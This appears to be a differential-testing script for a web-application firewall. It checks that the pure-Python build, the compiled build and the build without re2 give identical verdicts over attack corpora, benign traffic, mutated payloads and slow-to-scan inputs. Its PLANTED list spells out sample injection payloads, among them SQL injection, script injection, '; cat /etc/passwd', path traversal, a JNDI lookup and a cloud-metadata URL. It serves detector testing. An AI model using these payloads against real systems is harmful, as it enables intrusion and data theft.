"""The two builds of the firewall, the sources as the pure-Python wheel installs them and the same sources
compiled with mypyc (``build/compiled/src``, ``make compiled``), must give the same verdict on every event,
and so must the pure-Python build where google-re2 cannot be imported (a platform without its wheel, such
as musl: no prefilter gate, every exact pass runs): a differential run over the development corpora and
what can be made of them.

    .venv/bin/python scripts/compare_builds.py [--corpora DIR] [--mutations N] [--only KIND]

One worker process per variant (they run side by side) inspects the same events in the same order with
one ``Firewall`` each, so what the memo remembers is the same too, and writes one line per event: its
name and its verdict (blocked, each finding's rule, class, location, evidence and record, the budget and
incompleteness, the error, the blocked records, the strings and characters scanned). The time budget is
set out of reach, so that the slower variant is never cut where the faster one is not. The events, in this
order (``--only`` picks kinds):

- ``lines``: every line of every attack list of the corpora, none left out and none sampled (a list
  line that is no attack on its own still has to be read the same), in each of the benchmark's seven
  event shapes, and the modsec-learn query strings' values;
- ``benign``: the 5,000 real benign query strings in their three shapes, and the traffic stream;
- ``samples``: the real sample events of every trigger type (the corpora's and ``tests/fixtures/events``)
  as they are, then with each of their strings replaced, one at a time, by each of a few attacks, as
  they are and, where the field holds base64, base64-encoded;
- ``mutations``: attack lines mangled at random (seeded): characters inserted, dropped, doubled,
  percent-, entity- or escape-encoded, case changed, lines spliced, in a random shape;
- ``adversarial``: the speed benchmark's inputs built to be slow.

Exit 0 when every event's verdict is the same in the three, 1 with the differences otherwise (the first 20
of each pair shown), 2 when a variant cannot run (the compiled build not made).
"""

from __future__ import annotations

import argparse
import base64
import binascii
import copy
import json
import os
import random
import subprocess
import sys
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
BENCH = ROOT / "bench"
FIXTURE_EVENTS = ROOT / "tests" / "fixtures" / "events"
COMPILED_SRC = ROOT / "build" / "compiled" / "src"
OUT = BENCH / "out"
KINDS = ("lines", "benign", "samples", "mutations", "adversarial")
# What replaces each string of a sample event: one of each main class, short enough for every field
PLANTED = (
    "1' OR '1'='1' --",
    "<script>alert(1)</script>",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "{{7*7}}${jndi:ldap://x.example/a}",
    "http://169.254.169.254/latest/meta-data/",
    '{"$where": "sleep(100)"}',
    "__proto__[admin]=1",
)
_MUTATION_ALPHABET = "'\"<>;|&$`%\\/*-#()[]{}=+ \t\n\x00\u00e9\uff07\u2028"


def events(corpora: Path, kinds: tuple[str, ...], mutations: int) -> Iterator[tuple[str, Any]]:
    """(name, event) pairs, the same ones in the same order on every call."""
    sys.path.insert(0, str(BENCH))
    import firewall_corpus as fc

    placer = fc.Placer(corpora)
    lines = list(_attack_lines(corpora, fc.ATTACK_LISTS))
    if "lines" in kinds:
        for name, line in lines:
            for shape in fc.SHAPES:
                yield f"{name}@{shape}", placer.attack(shape, line)
    if "benign" in kinds:
        for sample in fc.benign_samples(corpora):
            for shape in fc.BENIGN_SHAPES:
                yield f"{sample.sid}@{shape}", placer.benign(shape, sample.payload)
        for number, event in enumerate(fc.traffic_stream(corpora)):
            yield f"stream:{number}", event
    if "samples" in kinds:
        for name, event in _sample_events(corpora):
            yield name, event
            for path, value in _string_paths(event):
                for number, attack in enumerate(PLANTED):
                    planted = _base64(attack) if _is_base64(value) else attack
                    yield f"{name}:{path}:{number}", _replaced(event, path, planted)
    if "mutations" in kinds:
        rng = random.Random(2026)  # noqa: S311 (seeded: the same mutations in both workers and every run)
        for number in range(mutations):
            text = _mutated(rng, [line for _, line in lines])
            shape = rng.choice(fc.SHAPES)
            yield f"mutation:{number}@{shape}", placer.attack(shape, text)
    if "adversarial" in kinds:
        for name, event in fc.adversarial_events(corpora).items():
            yield f"adversarial:{name}", event


def _attack_lines(corpora: Path, lists: dict[str, str]) -> Iterator[tuple[str, str]]:
    base = corpora / "attacks" / "payloadsallthethings"
    for folder in lists:
        for path in sorted((base / folder).iterdir()):
            raw = path.read_text(encoding="utf-8", errors="replace").splitlines()
            for number, line in enumerate(dict.fromkeys(raw)):
                if line.strip():
                    yield f"{folder}/{path.name}:{number}", line
    queries = json.loads((corpora / "attacks" / "sqli-query-strings.json").read_text())
    for number, query in enumerate(queries):
        for _key, value in urllib.parse.parse_qsl(query, keep_blank_values=True)[:1]:
            yield f"sqli-query-strings:{number}", value


def _sample_events(corpora: Path) -> Iterator[tuple[str, Any]]:
    for folder in (corpora / "events" / "powertools", FIXTURE_EVENTS):
        for path in sorted(folder.rglob("*.json")):
            try:
                yield f"{folder.name}/{path.relative_to(folder)}", json.loads(path.read_text())
            except (ValueError, UnicodeDecodeError):
                continue  # a fixture that is no JSON on purpose is the CLI tests' business


def _string_paths(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    if isinstance(node, str):
        yield path, node
    elif isinstance(node, dict):
        for key, value in node.items():
            yield from _string_paths(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _string_paths(value, (*path, index))


def _replaced(event: Any, path: tuple[Any, ...], value: str) -> Any:
    copied = copy.deepcopy(event)
    node = copied
    for step in path[:-1]:
        node = node[step]
    node[path[-1]] = value
    return copied


def _is_base64(value: str) -> bool:
    if len(value) < 16 or len(value) % 4:
        return False
    try:
        base64.b64decode(value, validate=True)
    except (binascii.Error, ValueError):
        return False
    return True


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _mutated(rng: random.Random, lines: list[str]) -> str:
    """An attack line changed in one to four random ways."""
    text = rng.choice(lines)
    for _ in range(rng.randint(1, 4)):
        if not text:
            text = rng.choice(lines)
        at = rng.randrange(len(text) + 1)
        end = min(len(text), at + rng.randint(1, 12))
        how = rng.randrange(8)
        if how == 0:
            text = text[:at] + rng.choice(_MUTATION_ALPHABET) + text[at:]
        elif how == 1:
            text = text[:at] + text[end:]
        elif how == 2:
            text = text[:at] + text[at:end] * 2 + text[end:]
        elif how == 3:
            text = text[:at] + urllib.parse.quote(text[at:end], safe="") + text[end:]
        elif how == 4:
            text = text[:at] + "".join(f"&#{ord(c)};" for c in text[at:end]) + text[end:]
        elif how == 5:
            text = text[:at] + "".join(f"\\u{ord(c):04x}" for c in text[at:end]) + text[end:]
        elif how == 6:
            text = text[:at] + text[at:end].swapcase() + text[end:]
        else:
            text = text[:at] + rng.choice(lines) + text[end:]
    return text[:4096]


def signature(verdict: Any) -> list[Any]:
    """What must not differ between the builds (not the time it took)."""
    findings = [[f.rule_id, f.attack, f.location, f.evidence, f.record, f.detail] for f in verdict.findings]
    return [
        verdict.blocked,
        findings,
        verdict.budget_exhausted,
        verdict.incomplete_reason,
        verdict.error,
        list(verdict.blocked_records),
        verdict.strings_scanned,
        verdict.bytes_scanned,
    ]


# The variants: (sources on PYTHONPATH, compiled or not, google-re2 importable or not)
VARIANTS = {
    "pure": ("src", False, True),
    "compiled": ("build/compiled/src", True, True),
    "pure-without-re2": ("src", False, False),
}


def worker(variant: str, corpora: Path, kinds: tuple[str, ...], mutations: int, out: Path) -> int:
    _, compiled, with_re2 = VARIANTS[variant]
    if not with_re2:
        sys.modules["re2"] = None  # type: ignore[assignment]  # ``import re2`` now raises ImportError
    import hullguard.firewall as firewall_package
    from hullguard.firewall import Firewall
    from hullguard.firewall.policy import Budget, FirewallPolicy

    if firewall_package.compiled() != compiled:
        print(f"compare_builds: the {variant} worker imported the other build", file=sys.stderr)
        return 2
    firewall = Firewall(policy=FirewallPolicy(budget=Budget(time_budget_ms=3_600_000)))
    if (firewall._gate is not None) != with_re2:
        print(f"compare_builds: the {variant} worker has the gate {'off' if with_re2 else 'on'}", file=sys.stderr)
        return 2
    with out.open("w", encoding="utf-8") as sink:
        for name, event in events(corpora, kinds, mutations):
            verdict = firewall.inspect(event)
            sink.write(json.dumps([name, signature(verdict)], ensure_ascii=True) + "\n")
    return 0


def compare(expected: Path, other: Path) -> list[tuple[str, Any, Any]]:
    differences = []
    with expected.open(encoding="utf-8") as left, other.open(encoding="utf-8") as right:
        for left_line, right_line in zip(left, right, strict=True):
            if left_line != right_line:
                name, ours = json.loads(left_line)
                other_name, theirs = json.loads(right_line)
                differences.append((name if name == other_name else f"{name} / {other_name}", ours, theirs))
    return differences


def main() -> int:
    sys.path.insert(0, str(BENCH))
    import firewall_corpus as fc

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--corpora", type=Path, default=fc.default_corpora())
    parser.add_argument("--mutations", type=int, default=50_000)
    parser.add_argument("--only", choices=KINDS, action="append", help="these kinds of events (repeatable)")
    parser.add_argument("--worker", choices=list(VARIANTS), help=argparse.SUPPRESS)
    parser.add_argument("--out", type=Path, help=argparse.SUPPRESS)
    args = parser.parse_args()
    kinds = tuple(args.only or KINDS)
    if args.worker:
        return worker(args.worker, args.corpora, kinds, args.mutations, args.out)
    if not (COMPILED_SRC / "hullguard").is_dir():
        print("compare_builds: no compiled build: run `make compiled` first", file=sys.stderr)
        return 2
    OUT.mkdir(exist_ok=True)
    outputs = {variant: OUT / f"builds-{variant}.jsonl" for variant in VARIANTS}
    started = time.perf_counter()
    workers = {
        variant: subprocess.Popen(
            [
                sys.executable,
                __file__,
                *("--worker", variant, "--out", str(out), "--corpora", str(args.corpora)),
                *("--mutations", str(args.mutations)),
                *[flag for kind in kinds for flag in ("--only", kind)],
            ],
            env=dict(os.environ, PYTHONPATH=str(ROOT / VARIANTS[variant][0]), PYTHONHASHSEED="0"),
        )
        for variant, out in outputs.items()
    }
    failed = [variant for variant, process in workers.items() if process.wait() != 0]
    if failed:
        print(f"compare_builds: the {' and '.join(failed)} worker failed", file=sys.stderr)
        return 2
    with outputs["pure"].open(encoding="utf-8") as counted:
        total = sum(1 for _ in counted)
    print(f"{total:,} events ({', '.join(kinds)}) in {time.perf_counter() - started:.0f} s")
    differ = False
    for variant in ("compiled", "pure-without-re2"):
        try:
            differences = compare(outputs["pure"], outputs[variant])
        except ValueError:
            print(f"compare_builds: the pure and {variant} workers wrote different numbers of events", file=sys.stderr)
            return 1
        print(f"pure and {variant}: {len(differences)} with different verdicts")
        for name, ours, theirs in differences[:20]:
            print(f"- {name}\n    pure: {json.dumps(ours)[:600]}\n    {variant}: {json.dumps(theirs)[:600]}")
        differ = differ or bool(differences)
    return 1 if differ else 0


if __name__ == "__main__":
    sys.exit(main())
